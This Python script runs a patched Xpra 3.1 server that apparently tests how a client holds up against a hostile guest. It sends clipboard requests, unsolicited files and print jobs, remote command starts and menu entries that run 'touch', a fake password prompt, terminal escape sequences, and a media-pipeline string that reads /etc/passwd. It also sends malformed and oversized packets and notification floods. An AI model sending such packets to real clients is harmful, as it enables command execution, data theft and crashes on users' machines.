#!/usr/bin/python3
# In the place of `xpra` in a guest: Xpra 3.1's own server, turned against its client. It asks the client for all that
# a client can do, one thing after the other, tells what the client answers, and at last sends what is no packet.
#
# With WAITS it is an ordinary server until a file in the guest says that it is time; then it abuses what a user has
# allowed, sound and notifications, and goes on.

WAITS = False
TIME = "/tmp/nofear-hostile-begins"
OVER = "/tmp/nofear-hostile-ends"

import os
import struct
import sys

sys.path.insert(0, "/usr/lib/python3/dist-packages")

from gi.repository import GLib
from xpra.scripts.main import main
from xpra.server.server_base import ServerBase
from xpra.server.source.client_connection import ClientConnection

FILE = b"nofear-hostile"
URL = "https://nofear-hostile.example/"

ATTACKS = [
    ("clipboard", ["set-clipboard-enabled", True, "the server says so"]),
    ("clipboard", ["clipboard-enable-selections", ["CLIPBOARD", "PRIMARY"]]),
    ("clipboard", ["clipboard-token", "CLIPBOARD"]),
    ("clipboard", ["clipboard-request", 1, "CLIPBOARD", "UTF8_STRING"]),
    ("clipboard", ["clipboard-request", 2, "PRIMARY", "STRING"]),
    ("file", ["send-file", FILE, "text/plain", False, False, 4, b"text", {}]),
    ("open file", ["send-file", FILE, "text/plain", False, True, 4, b"text", {}]),
    ("print", ["send-file", FILE, "application/pdf", True, False, 4, b"%PDF", {"printer": "any", "title": "t"}]),
    ("ask for a file", ["send-data-request", "file", "1", FILE, "text/plain", 4, False, True]),
    ("chunk", ["send-file-chunk", "1", 0, b"text", False]),
    ("URL", ["open-url", URL, "1"]),
    ("notification", ["notify_show", "", 1, "app", 0, "", "nofear-hostile", "body", 5000, b"", [], {}]),
    ("sound", ["sound-data", "wav", b"", {"start-of-stream": True, "codec": "wav"}]),
    ("sound", ["sound-data", "wav", b"RIFF" * 100, {}]),
    ("bell", ["bell", 0, 0, 100, 440, 1000, 0, 0, ""]),
    ("webcam", ["webcam-ack", 0, 0, 640, 480]),
    ("logging", ["logging", 20, b"nofear-hostile", 0]),
    ("setting", ["setting-change", "clipboard", True]),
    ("setting", ["setting-change", "start-new-commands", True]),
    ("setting", ["setting-change", "xdg-menu", {"Menu": {"Entries": {"x": {"command": b"touch /tmp/nofear-hostile"}}}}]),
    ("command", ["start-command", "x", "touch /tmp/nofear-hostile", False]),
    ("command", ["rpc-reply", "dbus", 1, True, []]),
    ("control", ["control", "name", "\x1b]0;nofear-hostile\x07"]),
    ("password", ["challenge", b"salt" * 8, {}, "hmac", "xor", "Your password, please"]),
    ("menus", ["window-metadata", 1, {"menu": {"enabled": True}}]),
    ("malformed", ["draw", 1]),
    ("malformed", ["draw", 1, -5, -5, 1 << 30, 1 << 30, "rgb32", b"short", 1, 1 << 30, {}]),
    ("malformed", ["draw", 1, 0, 0, 10, 10, "png", b"\x89PNG\r\n\x1a\n" + b"x" * 100, 2, 40, {}]),
    ("malformed", ["cursor", "raw", 0, 0, 1 << 20, 1 << 20, 0, 0, 1, b"short", "name"]),
    ("malformed", ["new-window", "x", [], {}, "", -1]),
    ("malformed", ["no-such-packet", {"a": [b"\xff" * 1000]}]),
]

def notification(number, summary, body, icon=b""):
    return ["notify_show", "", number, "app", 0, "", summary, body, 600000, icon, ["a", "b"] * 50, {}]


def sound(codec, data, metadata={}):
    return ["sound-data", codec, data, metadata]


# And these many times.
ALLOWED = [("notification", notification(n, "nofear-hostile %i" % n, "<b>" + "x" * 5000)) for n in range(60)] + [
    ("notification", notification(1, "\x1b]0;nofear-hostile\x07", "\0" * 100)),
    ("notification", notification(2, "picture", "", ("png", 1 << 20, 1 << 20, b"\x89PNG\r\n\x1a\n" + b"x" * 100))),
    ("notification", ["notify_show", 1, b"\xff", "", {}, [], -1, (), "never"]),
    ("notification", ["notify_close", -1]),
    ("sound", sound("wav", b"RIFF" + b"\xff" * (1 << 20))),
    ("sound", sound("wav", b"", {"sequence": -(1 << 62)})),
    ("sound", ["sound-data"]),
    ("sound", sound("mp3", b"\xff\xfb" * 2000)),
    ("sound", sound("../../x", b"", {"start-of-stream": True, "codec": "filesrc location=/etc/passwd ! filesink"})),
] + [
    ("sound", sound("wav", b"", {end + "-of-stream": True, "codec": "wav"})) for end in ("start", "end") * 3
]


# What a client sends by itself.
ORDINARY = {
    "hello", "ping", "ping_echo", "pointer-position", "damage-sequence", "connection-data", "map-window", "focus",
    "configure-window", "buffer-refresh", "layout-changed", "keymap-changed", "set_deflate", "desktop_size",
    "client-started", "server-settings", "printers", "info-request",
}


def say(text):
    print("hostile: " + text, flush=True)


def attack(source, rest):
    if rest:
        name, packet = rest[0]
        say("tries " + name)
        source.send(*packet)
        GLib.timeout_add(100, attack, source, rest[1:])
    else:
        over.append(True)
        source.ping()
        say("asks whether the client is there")
    return False


def finish(source):
    say("the client is there")
    if WAITS:
        open(OVER, "w").close()
        return False
    # A header that promises two gigabytes, and bytes.
    source.protocol._conn.write(struct.pack(">cBBBL", b"P", 0, 0, 0, (1 << 31) - 1) + b"x" * 4096)
    return False


tried = []
over = []
plain_complete = ClientConnection.startup_complete


def startup_complete(source):
    plain_complete(source)
    tried.append(source)
    if WAITS:
        GLib.timeout_add(1000, begin, source)
    else:
        GLib.timeout_add(1000, attack, source, ATTACKS)


def begin(source):
    if not os.path.exists(TIME):
        return True
    attack(source, ALLOWED)
    return False


plain_process = ServerBase.process_packet


def process_packet(server, protocol, packet):
    kind = packet[0].decode() if isinstance(packet[0], bytes) else str(packet[0])
    if kind == "ping_echo" and tried and not getattr(server, "finished", False) and over:
        server.finished = True
        GLib.timeout_add(100, finish, tried[-1])
    if kind not in ORDINARY:
        say("the client sends %s" % repr(packet)[:200])
    return plain_process(server, protocol, packet)


ClientConnection.startup_complete = startup_complete
ServerBase.process_packet = process_packet
sys.argv[0] = "xpra"
sys.exit(main("/usr/bin/xpra", sys.argv))
